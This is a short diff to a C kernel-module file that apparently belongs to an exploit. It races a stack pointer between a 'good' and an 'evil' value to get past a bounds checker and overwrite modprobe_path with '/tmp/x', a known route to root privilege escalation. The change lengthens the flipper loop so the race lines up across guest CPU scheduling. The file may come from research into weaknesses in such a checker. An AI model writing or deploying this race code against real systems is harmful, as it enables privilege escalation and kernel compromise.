@@ -6,6 +6,9 @@
  * it again can approve the good value while %rsp gets the other one; a
  * store at -8(%rsp), which bounds.c leaves unchecked (the frame), then
  * writes "/tmp/x" over modprobe_path.  %rsp is put back after each try.
+ * The flipper goes on until the attack's loop is over (or the module is
+ * unloaded, if the attack is stopped), so that the two overlap however
+ * the host schedules the guest's CPUs.
  */
 #include <linux/fs.h>
 #include <linux/workqueue.h>
@@ -13,6 +16,8 @@
 #include "attack.h"
 
 #define TRIES	(1UL << 22)
+/* the flipper runs until the attack is over, at most this long */
+#define FLIPS	(1UL << 26)
 
 static unsigned long g_sp, g_good, g_evil;
 static int g_started, g_stop;
@@ -24,7 +29,7 @@ static void pivot_flip(struct work_struct *w)
 	WRITE_ONCE(g_started, 1);
 	while (!READ_ONCE(g_good) && !READ_ONCE(g_stop))
 		cpu_relax();
-	for (i = 0; i < TRIES && !READ_ONCE(g_stop); i++) {
+	for (i = 0; i < FLIPS && !READ_ONCE(g_stop); i++) {
 		WRITE_ONCE(g_sp, g_evil);
 		WRITE_ONCE(g_sp, g_good);
 	}
